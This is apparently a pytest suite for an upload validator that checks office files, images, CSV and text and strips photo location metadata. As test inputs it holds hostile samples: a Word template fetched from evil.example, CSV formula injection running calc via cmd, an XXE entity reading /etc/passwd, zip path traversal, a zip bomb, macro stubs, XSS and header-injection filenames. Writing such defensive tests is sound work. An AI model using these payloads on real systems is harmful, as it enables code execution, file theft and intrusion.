"""A file is what its bytes say. What a reader's program might run, or be drowned in, is not taken."""

import struct
import zlib

import pytest

from accountability.workspace.examining.files import LONGEST_NAME, MOST_BYTES, examined
from accountability.workspace.examining.refused import FileRefused
from tests.workspace.office_files import made

PDF = b"%PDF-1.7\n1 0 obj\n\xff\xfe\nendobj\n%%EOF\n"


def chunk(kind, content):
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


PIXELS = chunk(b"IDAT", zlib.compress(b"\x00\x00"))
PNG = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)) + PIXELS
PNG_END = chunk(b"IEND", b"")


def segment(marker, content):
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(content) + 2) + content


def exif(orientation):
    """As a camera writes it: which way up, and where the photographer stood."""
    entry = struct.pack("<HHIHH", 0x0112, 3, 1, orientation, 0)
    place = b"53.4084 N, 2.9916 W"
    return b"Exif\0\0II*\0" + struct.pack("<IH", 8, 1) + entry + bytes(4) + place


JPEG_SCAN = segment(0xDB, b"tables") + segment(0xDA, b"scan") + b"\x01\x02\xff\x00\x03" + b"\xff\xd9"
JPEG = b"\xff\xd8" + segment(0xE0, b"JFIF\0") + JPEG_SCAN


def test_each_kind_is_taken_as_it_is():
    taken = {
        "charts.docx": made("docx", {"word/embeddings/Sheet1.xlsx": "table"}),
        "Report.PDF": PDF,
        "minutes.docx": made("docx"),
        "counts.xlsx": made("xlsx"),
        "lamp.png": PNG + PNG_END,
        "lamp.jpeg": JPEG,
        "counts.csv": "ward,lamps\r\nŴaterside,-12\r\n".encode(),
        "note.txt": b"Twelve lamps.\r\n\tOne is out.",
    }
    found = {name: examined(name, content) for name, content in taken.items()}
    assert {name: file.content for name, file in found.items()} == taken
    assert [file.kind for file in found.values()] == [
        "docx",
        "pdf",
        "docx",
        "xlsx",
        "png",
        "jpg",
        "csv",
        "txt",
    ]


def test_what_holds_nothing_wrong_is_read_once_however_it_repeats():
    for relations in (
        ENDLESS_TEMPLATE,
        '<R Type="http://x/attachedTemplate" Target="file:///C:/Normal.dotm" TargetMode="External"/>',
    ):
        content = made("docx", {SETTINGS: relations})
        assert examined("minutes.docx", content).content == content


HTML = b"<!doctype html><script>alert(document.domain)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
TEMPLATE = '<R Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>'
SETTINGS = "word/_rels/settings.xml.rels"
# What a pattern that goes back over it would look at for minutes, with every reader waiting.
ENDLESS_TEMPLATE = "attachedTemplate" * 65_000
ENDLESS_CELL = b"+" + b" " * 130_000 + b"x"
PAST = "".join(f"<R Id='{number}'/>" for number in range(70_000))
MACRO = made("docx", {"word/vbaProject.bin": "Sub AutoOpen()"})
REFUSED = {
    "HTML called PDF": ("report.pdf", HTML),
    "HTML before a PDF": ("report.pdf", HTML + PDF),
    "a PDF that does not end": ("report.pdf", b"%PDF-1.7\n" + b"x" * 5000),
    "SVG": ("lamp.svg", SVG),
    "SVG called PNG": ("lamp.png", SVG),
    "HTML": ("page.html", HTML),
    "a program": ("report.pdf.exe", b"MZ\x90"),
    "a program called PDF": ("report.pdf", b"MZ\x90" + PDF),
    "a shell script without an ending": ("report", b"#!/bin/sh"),
    "nothing": ("report.pdf", b""),
    "no name": ("", PDF),
    "only an ending": ("pdf", PDF),
    "more than 10 MB": ("note.txt", b"x" * (MOST_BYTES + 1)),
    "a picture without its end": ("lamp.png", PNG),
    "a picture that begins only": ("lamp.png", PNG[:20]),
    "a chunk longer than the picture": ("lamp.png", PNG[:8] + b"\xff\xff\xff\xffIHDR" + PNG[16:]),
    "a photograph without its end": ("lamp.jpg", JPEG[:-2]),
    "a segment longer than the photograph": ("lamp.jpg", b"\xff\xd8\xff\xe1\xff\xff" + JPEG),
    "a segment that is shorter than nothing": ("lamp.jpg", b"\xff\xd8\xff\xe1\x00\x00" + JPEG),
    "a ZIP archive called Word": ("minutes.docx", made("xlsx")),
    "not even an archive": ("minutes.docx", b"PK\x03\x04" + b"x" * 100),
    "a Word file with a macro": ("minutes.docx", MACRO),
    "a Word file called Excel": ("counts.xlsx", made("docx")),
    "a template that fetches a macro": (
        "minutes.docx",
        made("docx", {"word/_rels/settings.xml.rels": TEMPLATE}),
    ),
    "a template whose address comes first": (
        "minutes.docx",
        made(
            "docx",
            {
                SETTINGS: "<R Target = 'HTTPS://evil.example/a.dotm'\nType='http://x/attachedTemplate'/>",
            },
        ),
    ),
    "a template of another machine": (
        "minutes.docx",
        made(
            "docx",
            {SETTINGS: '<R Type="http://x/attachedTemplate" Target="file://evil.example/a.dotm"/>'},
        ),
    ),
    "a template that is spelled otherwise": (
        "minutes.docx",
        made("docx", {SETTINGS: TEMPLATE.replace("https", "&#104;ttps")}),
    ),
    "a template past what is read": ("minutes.docx", made("docx", {SETTINGS: PAST + TEMPLATE})),
    "an object within": ("minutes.docx", made("docx", {"word/embeddings/oleObject1.bin": "MZ"})),
    "controls within": ("minutes.docx", made("docx", {"word/activeX/activeX1.xml": "x"})),
    "a bomb": ("minutes.docx", made("docx", {"word/media/1.png": "0" * 30_000_000})),
    "very many members": ("counts.xlsx", made("xlsx", {f"xl/sheet{n}.xml": "" for n in range(2000)})),
    "a member outside": ("minutes.docx", made("docx", {"../../etc/passwd": "x"})),
    "a member at the root": ("minutes.docx", made("docx", {"/etc/passwd": "x"})),
    "a document type": (
        "minutes.docx",
        made(
            "docx",
            types="<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>wordprocessingml.document.main+xml",
        ),
    ),
    "a formula": ("counts.csv", b'ward,lamps\r\n=HYPERLINK("http://x"),2\r\n'),
    "a formula behind a sign": ("counts.csv", b"a\r\n+cmd|' /C calc'!A0\r\n"),
    "a formula behind a space": ("counts.csv", b'a\r\n" @SUM(1)"\r\n'),
    "a formula in wide letters": ("counts.csv", "a\r\n\uff1d1+1\r\n".encode()),
    "a formula behind very many spaces": ("counts.csv", b"a\r\n" + ENDLESS_CELL + b"\r\n"),
    "text that is none": ("note.txt", b"\x00\x01\x02"),
    "text in another code": ("note.txt", "Ŵaterside".encode("utf-16")),
    "control characters": ("note.txt", b"lamps\x1b[2J"),
    "half a character in its name": ("re\ud800port.pdf", PDF),
}


@pytest.mark.parametrize("case", REFUSED)
def test_what_is_not_what_it_is_called_is_refused(case, tally):
    with pytest.raises(FileRefused) as refused:
        examined(*REFUSED[case])
    assert not str(refused.value).endswith(".")
    tally("hostile files tried", len(REFUSED))


@pytest.mark.parametrize(
    ("name", "called"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\Dana Hare\\report.pdf", "report.pdf"),
        ("report.exe.pdf", "report.exe.pdf"),
        ("report\r\nSet-Cookie: a=b.pdf", "report Set-Cookie: a=b.pdf"),
        ("\u202efdp.report.pdf", "fdp.report.pdf"),
        ('"><script>alert(1)<.pdf', '"><script>alert(1)<.pdf'),
        ("x" * 400 + ".pdf", "x" * (LONGEST_NAME - 5) + "….pdf"),
    ],
)
def test_a_name_is_words_and_never_a_path(name, called):
    assert examined(name, PDF).name == called


@pytest.mark.parametrize(("turned", "kept"), [(6, True), (1, False)])
def test_a_photograph_is_kept_without_where_it_was_taken(turned, kept):
    photograph = (
        b"\xff\xd8" + segment(0xE1, exif(turned)) + segment(0xFE, b"by Dana Hare") + JPEG_SCAN + b"after"
    )
    content = examined("lamp.jpg", photograph).content
    assert b"53.4084" not in content
    assert b"Dana" not in content
    assert content.endswith(JPEG_SCAN)
    assert (struct.pack(">HHIH", 0x0112, 3, 1, turned) in content) == kept


def test_a_picture_is_kept_without_what_a_program_wrote_into_it():
    content = examined("lamp.png", PNG + chunk(b"tEXt", b"Author\0Dana Hare") + PNG_END + b"<script>").content
    assert content == PNG + PNG_END
